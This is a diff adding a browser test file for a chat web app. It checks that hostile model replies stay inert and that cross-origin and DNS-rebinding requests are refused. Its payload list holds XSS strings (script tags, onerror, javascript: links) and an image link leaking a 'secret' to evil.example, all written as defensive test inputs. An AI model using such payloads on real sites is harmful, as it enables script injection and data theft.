@@ -1,0 +1,101 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { offline, script } from 'colloquy/engines'
+import { ask } from '../browser.ts'
+import { skip, withSite } from '../harness.ts'
+
+describe('hostile replies and pages', { skip }, () => {
+  test('a hostile reply is text: nothing in it runs, loads or opens', async () => {
+    const reply = hostile.join('\n\n')
+    await withSite(script([reply]), async ({ url, newLink, open }) => {
+      const { page, errors } = await open()
+      const requests: string[] = []
+      page.on('request', (request) => requests.push(request.url()))
+      await page.goto(newLink())
+      await ask(page, 'Do your worst')
+      assert.equal(await page.evaluate(() => 'hacked' in globalThis), false)
+      const elements = await page.locator('article.reply :is(script, iframe, object, img, form, style, base)').count()
+      assert.equal(elements, 0)
+      const links = await page
+        .locator('article.reply .markdown a')
+        .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href))
+      assert.deepEqual(links, ['https://example.com/safe'])
+      assert.deepEqual(
+        requests.filter((one) => !one.startsWith(url)),
+        [],
+      )
+      assert.deepEqual(errors, [])
+    })
+  })
+
+  test('a page without a session reads nothing, and its link works once', async () => {
+    await withSite(offline(), async ({ url, newLink, open }) => {
+      const link = newLink()
+      const { page } = await open()
+      await page.goto(link)
+      await ask(page, 'What is 4 * 4?')
+      assert.doesNotMatch(page.url(), /#/)
+      const other = await open()
+      await other.page.goto(link)
+      await other.page.getByText('This page has no session').waitFor()
+      assert.equal(await other.page.locator('nav.chats li').count(), 0)
+      for (const path of ['/api/conversations', '/api/changes', '/admin/usage']) {
+        assert.ok((await fetch(url + path, { headers: { origin: 'http://evil.example' } })).status >= 401, path)
+      }
+    })
+  })
+
+  test('a page of another origin cannot use the session', async () => {
+    await withSite(offline(), async ({ url, newLink, open }) => {
+      const { page } = await open()
+      await page.goto(newLink())
+      await page.locator('#composer').waitFor()
+      const foreign = await page.context().newPage()
+      // Another port of the same host counts as the same site for cookies, but not as the same origin.
+      await foreign.route('http://127.0.0.1:9/', (route) =>
+        route.fulfill({ contentType: 'text/html', body: '<p>foreign</p>' }),
+      )
+      await foreign.goto('http://127.0.0.1:9/')
+      const outcome = await foreign.evaluate(async (target) => {
+        const post = { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' } as const
+        await fetch(`${target}/api/conversations`, post).catch(() => undefined)
+        return fetch(`${target}/api/conversations`, { credentials: 'include' }).then(
+          (response) => response.status,
+          () => 'refused',
+        )
+      }, url)
+      assert.equal(outcome, 'refused')
+      const list = await page.evaluate(
+        async () => ((await (await fetch('/api/conversations')).json()) as { data: [] }).data,
+      )
+      assert.deepEqual(list, [])
+    })
+  })
+
+  test('a name that leads here by DNS rebinding is refused, with the page and the API', async () => {
+    await withSite(offline(), async ({ url, newLink, open }) => {
+      const { page } = await open()
+      await page.goto(newLink())
+      await ask(page, 'What is 4 * 4?')
+      const { port } = new URL(url)
+      for (const path of ['/', '/api/conversations', '/admin/usage']) {
+        const response = await page.goto(`http://rebind.example:${port}${path}`)
+        assert.equal(response?.status(), 403, path)
+        assert.doesNotMatch((await response?.text()) ?? '', /4 \* 4/)
+      }
+    })
+  })
+})
+
+const hostile = [
+  '<script>globalThis.hacked = 1</script>',
+  '<img src=x onerror="globalThis.hacked = 1">',
+  '<iframe srcdoc="<script>top.hacked = 1</script>"></iframe>',
+  '[click](javascript:globalThis.hacked=1) [data](data:text/html,<script>hacked=1</script>) [path](/api/conversations)',
+  '![leak](https://evil.example/leak.png?q=secret)'.replace('https://evil.example', 'ftp://evil.example'),
+  '[safe](https://example.com/safe)',
+  '&lt;script&gt;globalThis.hacked = 1&lt;/script&gt; \u001b]0;title\u0007 \u202eright to left',
+  `${'> '.repeat(2_000)}deep`,
+  `| ${'a | '.repeat(50)}\n| ${'--- | '.repeat(50)}\n${`| ${'b | '.repeat(50)}\n`.repeat(300)}`,
+  '```html\n<script>globalThis.hacked = 1</script>\n```',
+]
